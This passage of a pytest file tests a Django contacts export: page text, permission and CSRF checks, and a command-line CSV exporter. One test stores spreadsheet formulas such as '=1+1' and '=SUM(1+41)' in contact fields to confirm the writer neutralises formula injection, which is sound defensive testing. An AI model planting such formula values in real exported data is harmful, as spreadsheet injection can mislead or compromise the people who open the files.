        assert f'<a class="page-header__back" href="{LIST}">Back to contacts</a>' in html
        assert 'name="contact"' not in html

    def test_the_export_page_says_when_the_download_has_started(self, staff_client):
        ContactFactory()
        html = staff_client.get(EXPORT).content.decode()
        filename = f"contacts-{timezone.localdate().isoformat()}.csv"
        assert "data-export>" in html
        assert f"data-export-started hidden>Your download has started: {filename}." in html


class TestPermissions:
    def test_anonymous_visitors_are_sent_to_log_in(self, client):
        for response in (client.get(EXPORT), client.post(EXPORT, {"download": "1", "scope": "all", "columns": FULL})):
            assert response.status_code == 302
            assert response.url.startswith(reverse("login"))
        assert not ExportLog.objects.exists()

    def test_without_the_export_permission_403_and_no_button(self, client):
        ContactFactory()
        user = UserFactory()
        user.user_permissions.add(Permission.objects.get(codename="view_contact"))
        client.force_login(user)
        assert client.get(EXPORT).status_code == 403
        assert client.post(EXPORT, {"download": "1", "scope": "all", "columns": FULL}).status_code == 403
        html = client.get(LIST).content.decode()
        assert "Export contacts" not in html
        assert 'name="ids"' not in html
        assert not ExportLog.objects.exists()

    def test_a_viewer_can_export_but_not_delete_or_change(self, client, viewer):
        contact = ContactFactory(email="ann@x.ex")
        client.force_login(viewer)
        assert viewer.has_perm("customers.export_contact")
        assert not viewer.has_perm("customers.delete_contact")
        assert column(download(client, scope="selected", ids=[contact.pk]), "Email") == ["ann@x.ex"]
        label = LabelFactory()
        response = client.post(
            reverse("customers:bulk"), {"ids": [contact.pk], "label": label.pk, "action": "add_label"}
        )
        assert response.status_code == 403
        assert not contact.labels.exists()
        html = client.get(LIST).content.decode()
        assert "Export contacts" in html
        assert "Delete contacts" not in html
        html = client.get(contact.get_absolute_url()).content.decode()
        assert "Export contact</button>" in html
        assert "Delete contact" not in html
        assert "Erase personal data" not in html

    def test_a_post_without_a_csrf_token_is_refused(self, staff_user):
        ContactFactory()
        client = Client(enforce_csrf_checks=True)
        client.force_login(staff_user)
        response = client.post(EXPORT, {"download": "1", "scope": "all", "columns": FULL})
        assert response.status_code == 403
        assert not ExportLog.objects.exists()


class TestCommand:
    def run(self, *args) -> tuple[str, str]:
        out, err = io.StringIO(), io.StringIO()
        call_command("export_contacts", *args, stdout=out, stderr=err)
        return out.getvalue(), err.getvalue()

    def test_all_contacts_to_standard_output_logged_without_a_user(self):
        everything_contact()
        ContactFactory(deleted_at=timezone.now())
        out, err = self.run()
        rows = rows_of(out)
        assert rows[0] == list(COLUMN_SETS[FULL].header)
        assert column(rows, "Email") == ["ann@x.example"]
        assert "Exported 1 contacts (full columns) to standard output" in err
        log = ExportLog.objects.get()
        assert (log.user, log.scope, log.columns, log.row_count) == (None, "command", FULL, 1)
        assert log.filters == {"scope": "all", "filters": "", "finished": True}

    def test_a_filter_to_a_file_in_shopify_columns_with_a_bom(self, tmp_path):
        vip = LabelFactory(name="VIP")
        ContactFactory(email="ann@x.ex", first_name="Ann").labels.add(vip)
        ContactFactory(email="anna@x.ex", first_name="Anna")
        ContactFactory(email="bob@x.ex", first_name="Bob").labels.add(vip)
        target = tmp_path / "vip.csv"
        query = f"labels={vip.pk}&q=ann&sort=-created&cursor=abc"
        self.run("--query", query, "--columns", "shopify", "--bom", "-o", str(target))
        raw = target.read_bytes()
        assert raw.startswith(b'\xef\xbb\xbf"Customer ID",')
        assert column(rows_of(raw.decode("utf-8-sig")), "Email") == ["ann@x.ex"]
        log = ExportLog.objects.get()
        assert log.filters == {"scope": "filter", "filters": f"q=ann&labels={vip.pk}", "finished": True}

    @pytest.mark.parametrize(
        ("args", "message"),
        [
            (["--query", "lables=3"], "Not a filter of the contacts list: lables"),
            (["--query", "labels=999999"], "Labels: Select a valid choice."),
            (["--scope", "filter"], "--scope filter needs --query"),
            (["--scope", "all", "--query", "stage=lead"], "--query narrows --scope filter"),
            (["--query", "q=nobody-has-this"], NOTHING),
        ],
    )
    def test_bad_arguments_stop_before_anything_is_written(self, args, message):
        ContactFactory()
        with pytest.raises(CommandError, match=message.replace("(", r"\(").replace(".", r"\.")):
            self.run(*args)
        assert not ExportLog.objects.exists()

    def test_the_command_writes_cells_by_the_same_rule(self, tmp_path):
        """`manage.py export_contacts` streams through the same writer: every field quoted, every formula marked."""
        contact = ContactFactory(first_name="x;=SUM(1+41);y", last_name="=1+1", email="ann@x.ex")
        ConsentRecord.objects.create(
            contact=contact,
            state=ConsentState.SUBSCRIBED,
            source=ConsentSource.STAFF,
            given_at=datetime(2026, 2, 1, 12, 0, tzinfo=UTC),
            collected_how="Note\n=1+1",
        )
        target = tmp_path / "contacts.csv"
        self.run("-o", str(target))
        text = target.read_text(encoding="utf-8")
        assert f'"{contact.pk}","x;\'=SUM(1+41);y","\'=1+1","ann@x.ex",' in text
        assert column(rows_of(text), "Marketing consent history") == [
            "2026-02-01T12:00:00+00:00 Email: Subscribed (Staff, Unknown) Note\n'=1+1"
        ]

    def test_an_output_path_that_cannot_be_written(self, tmp_path):
        ContactFactory()
        with pytest.raises(CommandError, match="Cannot write"):
            self.run("-o", str(tmp_path / "missing" / "x.csv"))
        assert not ExportLog.objects.exists()
